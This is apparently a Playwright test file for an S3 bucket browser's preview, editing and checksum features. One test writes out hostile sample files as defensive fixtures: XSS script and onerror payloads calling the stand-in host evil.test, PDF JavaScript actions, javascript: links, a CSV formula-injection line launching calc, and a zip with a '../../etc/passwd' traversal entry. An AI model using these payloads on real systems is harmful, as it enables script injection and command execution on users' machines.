import { GetBucketCorsCommand, GetObjectCommand, PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import type { Locator, Page } from '@playwright/test';
import { expect, test } from '../fixtures.ts';
import { BucketPage } from '../pages/bucket-page.ts';
import { makePdf, makeZip, samples } from '../preview-samples.ts';

async function putFiles(s3: S3Client, bucket: string, files: Record<string, Buffer | string>): Promise<void> {
  // The stored type is a lie throughout: nothing may follow from it.
  const put = ([Key, Body]: [string, Buffer | string]) =>
    s3.send(new PutObjectCommand({ Bucket: bucket, Key, Body, ContentType: 'text/html' }));
  await Promise.all(Object.entries(files).map(put));
}

/** Opens the quick look on the first object and waits until it is there. */
async function lookAtFirst(page: Page, objects: BucketPage, name: string): Promise<void> {
  await objects.grid.focus();
  await page.keyboard.press('Home');
  await expect(objects.activeRow).toContainText(name);
  await page.keyboard.press('Space');
  await expect(look(page, name)).toBeVisible();
}

const look = (page: Page, name: string): Locator => page.getByRole('dialog', { name, exact: true });

/** What stands there when each sample is shown. */
const shown: Record<string, (dialog: Locator) => Promise<void>> = {
  '01-picture.png': (dialog) => expect(dialog.getByText('8 × 8 pixels')).toBeVisible(),
  '02-drawing.svg': (dialog) => expect(dialog.getByText('40 × 20 pixels')).toBeVisible(),
  '03-film.webm': async (dialog) => {
    const width = () => dialog.getByLabel('Video').evaluate((video) => (video as HTMLVideoElement).videoWidth);
    await expect.poll(width).toBe(32);
  },
  '04-sound.wav': async (dialog) => {
    const length = () => dialog.getByLabel('Sound').evaluate((audio) => (audio as HTMLAudioElement).duration);
    await expect.poll(length).toBe(1);
  },
  '05-paper.pdf': async (dialog) => {
    await expect(dialog.getByRole('img', { name: 'Page 1: Hello barrel' })).toBeVisible();
    await dialog.getByText('Hello barrel').selectText();
    expect(await dialog.page().evaluate(() => getSelection()?.toString())).toBe('Hello barrel');
  },
  '06-page.md': async (dialog) => {
    await expect(dialog.getByRole('heading', { name: 'Staves' })).toBeVisible();
    await expect(dialog.getByRole('link', { name: 'hoops' })).toHaveAttribute('rel', /noopener/u);
    await expect(dialog.getByRole('cell', { name: 'oak' })).toBeVisible();
  },
  '07-tree.json': async (dialog) => {
    await dialog.getByRole('button', { name: 'staves' }).click();
    await expect(dialog.getByText('9007199254740993')).toBeVisible();
  },
  '08-table.csv': async (dialog) => {
    await expect(dialog.getByRole('columnheader', { name: 'years' })).toBeVisible();
    await expect(dialog.getByRole('cell', { name: 'ash; young' })).toBeVisible();
  },
  '09-rows.parquet': async (dialog) => {
    await expect(dialog.getByText('3 rows · 2 columns')).toBeVisible();
    await expect(dialog.getByRole('cell', { name: 'elm' })).toBeVisible();
  },
  '10-archive.zip': (dialog) => expect(dialog.getByRole('cell', { name: 'staves/oak.txt' })).toBeVisible(),
  '11-words.txt': (dialog) => expect(dialog.getByText('second line')).toBeVisible(),
  '12-bytes.bin': (dialog) => expect(dialog.getByText('00 01 02 43 6f 6f 70 ff')).toBeVisible(),
};

test('A person looks through a folder with the space bar and the arrows, whatever lies in it', async ({
  signedIn: page,
  s3,
  browserBucket,
  expectAccessible,
}) => {
  await putFiles(s3, browserBucket, samples);
  const objects = new BucketPage(page, browserBucket);
  await objects.open();
  const names = Object.keys(samples);
  await lookAtFirst(page, objects, names[0]!);
  for (const [index, name] of names.entries()) {
    if (index > 0) await page.keyboard.press('ArrowRight');
    const dialog = look(page, name);
    await expect(dialog).toBeVisible();
    await shown[name]!(dialog);
    if (['01-picture.png', '08-table.csv', '11-words.txt'].includes(name)) await expectAccessible(page);
  }
  await page.keyboard.press('ArrowLeft');
  await expect(look(page, names.at(-2)!)).toBeVisible();
  await page.keyboard.press('Space');
  await expect(page.getByRole('dialog')).toBeHidden();
  // The list went along, and has the focus again.
  await expect(objects.activeRow).toContainText(names.at(-2)!);
  await expect(objects.grid).toBeFocused();

  await page.keyboard.press('Enter');
  await objects.details.getByRole('tab', { name: 'Preview' }).click();
  const panel = objects.details.getByRole('tabpanel', { name: 'Preview' });
  await expect(panel.getByText('second line')).toBeVisible();
  await panel.getByRole('combobox', { name: 'Show as' }).click();
  await page.getByRole('option', { name: 'Hex' }).click();
  await expect(panel.getByText('66 69 72 73 74 20 6c 69 6e 65')).toBeVisible();
});

const run = 'window.pwned = 1; alert(1); console.log("pwned"); fetch("https://evil.test/script")';
const html = `<!doctype html><script>${run}</script><img src="https://evil.test/img" onerror="${run}">`;

/** Files that would run something, or call home, if any viewer let them; each with what is seen instead. */
const hostile: Record<string, { body: Buffer | string; sees: (dialog: Locator) => Locator }> = {
  '01.html': { body: html, sees: (dialog) => dialog.getByText('window.pwned') },
  '02.png': { body: html, sees: (dialog) => dialog.getByText('By its name this is an image') },
  '03.svg': {
    body:
      `<svg xmlns="http://www.w3.org/2000/svg" width="30" height="10" onload="${run.replaceAll('"', '&quot;')}"><script>${run}</script>` +
      `<image href="https://evil.test/svg" width="9" height="9"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.test/frame"></iframe></body></foreignObject></svg>`,
    sees: (dialog) => dialog.getByText('30 × 10 pixels'),
  },
  '04.pdf': {
    body: makePdf(
      'Evil paper',
      `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); app.launchURL\\("https://evil.test/pdf"\\)) >> /AA << /WC << /S /URI /URI (https://evil.test/uri) >> >>`,
    ),
    sees: (dialog) => dialog.getByRole('img', { name: 'Page 1: Evil paper' }),
  },
  '05.md': {
    body: `# Evil page\n\n<script>${run}</script>\n\n<img src=https://evil.test/raw onerror=alert(1)>\n\n![p](https://evil.test/picture)\n\n[go](javascript:alert(1)) [data](data:text/html,x)\n`,
    sees: (dialog) => dialog.getByRole('heading', { name: 'Evil page' }),
  },
  '06.json': {
    body: JSON.stringify({ __proto__x: html, key: `<img src=x onerror=alert(1)>` }),
    sees: (dialog) => dialog.getByText('onerror=alert').first(),
  },
  '07.csv': {
    body: `name,value\n=HYPERLINK("https://evil.test/csv"),"<img src=https://evil.test/cell onerror=alert(1)>"\n@SUM(1),+cmd|' /C calc'!A0\n`,
    sees: (dialog) => dialog.getByRole('cell', { name: '@SUM(1)' }),
  },
  '08.zip': {
    body: makeZip(['../../etc/passwd', '<img src=https://evil.test/zip onerror=alert(1)>', 'a\u202Egnp.exe']),
    sees: (dialog) => dialog.getByRole('cell', { name: '../../etc/passwd' }),
  },
  '09.parquet': { body: `PAR1${html}PAR1`, sees: (dialog) => dialog.getByText('This could not be shown') },
  '10.mp4': { body: html, sees: (dialog) => dialog.getByText('By its name this is a video') },
  '11.txt': { body: html, sees: (dialog) => dialog.getByText('window.pwned') },
};

test('Hostile files run nothing and call nobody in any viewer', async ({
  signedIn: page,
  server,
  s3,
  browserBucket,
}) => {
  const files = Object.fromEntries(Object.entries(hostile).map(([name, { body }]) => [name, body]));
  await putFiles(s3, browserBucket, files);
  const heard: string[] = [];
  page.on('dialog', (dialog) => {
    heard.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (/pwned|evil\.test/u.test(message.text())) heard.push(`console ${message.text()}`);
  });
  page.on('popup', (popup) => heard.push(`window ${popup.url()}`));
  const own = [new URL(page.url()).origin, new URL(server.endpoint).origin];
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol.startsWith('http') && !own.includes(origin)) heard.push(`request ${request.url()}`);
  });
  const objects = new BucketPage(page, browserBucket);
  await objects.open();
  const names = Object.keys(hostile);
  await lookAtFirst(page, objects, names[0]!);
  for (const [index, name] of names.entries()) {
    if (index > 0) await page.keyboard.press('ArrowRight');
    const dialog = look(page, name);
    await expect(hostile[name]!.sees(dialog)).toBeVisible();
    expect(await dialog.locator('script, iframe, object, embed, [onerror], [onload]').count()).toBe(0);
    expect(await dialog.locator('a[href^=http]:not([rel~=noopener])').count()).toBe(0);
  }
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  expect(heard).toEqual([]);
});

test('Where the bucket keeps browsers out, one press lets them read', async ({ signedIn: page, s3, bucket }) => {
  await putFiles(s3, bucket, { 'a.txt': 'readable now', 'b.png': samples['01-picture.png']! });
  const objects = new BucketPage(page, bucket);
  await objects.open();
  await lookAtFirst(page, objects, 'a.txt');
  await expect(look(page, 'a.txt').getByText('may not read files')).toBeVisible();
  // Pictures need no leave.
  await page.keyboard.press('ArrowRight');
  await expect(look(page, 'b.png').getByText('8 × 8 pixels')).toBeVisible();
  await page.keyboard.press('ArrowLeft');
  await look(page, 'a.txt').getByRole('button', { name: 'Add the rule' }).click();
  await expect(look(page, 'a.txt').getByText('readable now')).toBeVisible();
  const { CORSRules = [] } = await s3.send(new GetBucketCorsCommand({ Bucket: bucket }));
  expect(CORSRules).toHaveLength(1);
  expect(CORSRules[0]).toMatchObject({ AllowedMethods: ['GET', 'HEAD'], ExposeHeaders: ['ETag', 'Content-Range'] });
});

test('A person reads a long text at its end and anywhere, and hears when somebody writes it anew', async ({
  signedIn: page,
  s3,
  browserBucket,
}) => {
  const lines = Array.from({ length: 400_000 }, (_, index) => `line ${index + 1}`);
  await putFiles(s3, browserBucket, {
    'a.txt': lines.join('\n'),
    'b.txt': Buffer.from('\ufeffgr\u00fcn', 'utf16le'),
    'c.txt': Buffer.from('gr\u00fcn und bl\u00e4ulich', 'latin1'),
  });
  const objects = new BucketPage(page, browserBucket);
  await objects.open();
  await lookAtFirst(page, objects, 'a.txt');
  const dialog = look(page, 'a.txt');
  await expect(dialog.getByText('line 3\n')).toBeVisible();
  await dialog.getByRole('button', { name: 'Go to the end' }).click();
  await expect(dialog.getByText(/line 400000$/u)).toBeVisible();
  await dialog.getByRole('textbox', { name: 'Go to a byte' }).fill('50 %');
  await page.keyboard.press('Enter');
  await expect(dialog.getByText('line 204000\n')).toBeVisible();

  await s3.send(new PutObjectCommand({ Bucket: browserBucket, Key: 'a.txt', Body: 'written anew' }));
  await dialog.getByRole('textbox', { name: 'Go to a byte' }).fill('75 %');
  await page.keyboard.press('Enter');
  await expect(dialog.getByRole('alert')).toContainText('The object has changed');
  await dialog.getByRole('button', { name: 'Open it again' }).click();
  await expect(dialog.getByText('written anew')).toBeVisible();

  await dialog.getByRole('button', { name: 'Next object' }).click();
  await expect(look(page, 'b.txt').getByText('grün')).toBeVisible();
  await expect(look(page, 'b.txt').getByRole('combobox', { name: 'Encoding' })).toContainText('UTF-16 LE');
  await page.getByRole('button', { name: 'Next object' }).click();
  await expect(look(page, 'c.txt').getByText('grün und bläulich')).toBeVisible();
  await expect(look(page, 'c.txt').getByRole('combobox', { name: 'Encoding' })).toContainText('Latin-1');
});

test('A person edits a small text, keeps what hangs on it, and is told when somebody else was faster', async ({
  signedIn: page,
  s3,
  browserBucket,
  expectAccessible,
}) => {
  const named = { Bucket: browserBucket, Key: 'notes.txt' };
  const first = { ContentType: 'text/plain', Metadata: { team: 'barrel' }, Tagging: 'state=draft' };
  await s3.send(new PutObjectCommand({ ...named, ...first, Body: 'one\r\ntwo' }));
  const objects = new BucketPage(page, browserBucket);
  await objects.open();
  await lookAtFirst(page, objects, 'notes.txt');
  const dialog = look(page, 'notes.txt');
  await expect(dialog.getByText('two')).toBeVisible();
  await dialog.getByRole('button', { name: 'Edit' }).click();
  const editor = dialog.getByRole('textbox', { name: 'Text of the object' });
  await expect(editor).toContainText('two');
  await editor.press('ControlOrMeta+End');
  await editor.pressSequentially(' three');
  await expectAccessible(page);
  await dialog.getByRole('button', { name: 'Save' }).click();
  await expect(dialog.getByText('two three')).toBeVisible();
  await expect(editor).toBeHidden();
  const saved = await s3.send(new GetObjectCommand(named));
  expect(await saved.Body?.transformToString()).toBe('one\r\ntwo three');
  expect(saved).toMatchObject({ ContentType: 'text/plain', Metadata: { team: 'barrel' }, TagCount: 1 });

  await dialog.getByRole('button', { name: 'Edit' }).click();
  await expect(editor).toContainText('two three');
  await editor.press('ControlOrMeta+End');
  await editor.pressSequentially(' mine');
  await s3.send(new PutObjectCommand({ ...named, ...first, Body: 'one\r\ntwo theirs' }));
  await dialog.getByRole('button', { name: 'Save' }).click();
  await expect(dialog.getByRole('alert')).toContainText('Somebody has saved this object meanwhile');
  const difference = dialog.getByLabel('Their text and mine');
  await expect(difference).toContainText('- two theirs');
  await expect(difference).toContainText('+ two three mine');
  const untouched = await s3.send(new GetObjectCommand(named));
  expect(await untouched.Body?.transformToString()).toBe('one\r\ntwo theirs');
  await dialog.getByRole('button', { name: 'Write mine over theirs' }).click();
  await expect(difference).toBeHidden();
  // The editor comes back while its text is sent, and goes when the new object is there.
  await expect(editor).toBeHidden();
  await expect(dialog.getByText('two three mine')).toBeVisible();
  const last = await s3.send(new GetObjectCommand(named));
  expect(await last.Body?.transformToString()).toBe('one\r\ntwo three mine');
});

test('A person verifies that an object is what was stored', async ({ signedIn: page, s3, browserBucket }) => {
  await putFiles(s3, browserBucket, { 'a.bin': Buffer.alloc(6 * 1024 * 1024, 'barrel') });
  const objects = new BucketPage(page, browserBucket);
  await objects.open({ key: 'a.bin' });
  await objects.details.getByRole('button', { name: 'Verify the checksum' }).click();
  await expect(objects.details.getByText(/^The content is what its .+ says$/u)).toBeVisible();
});
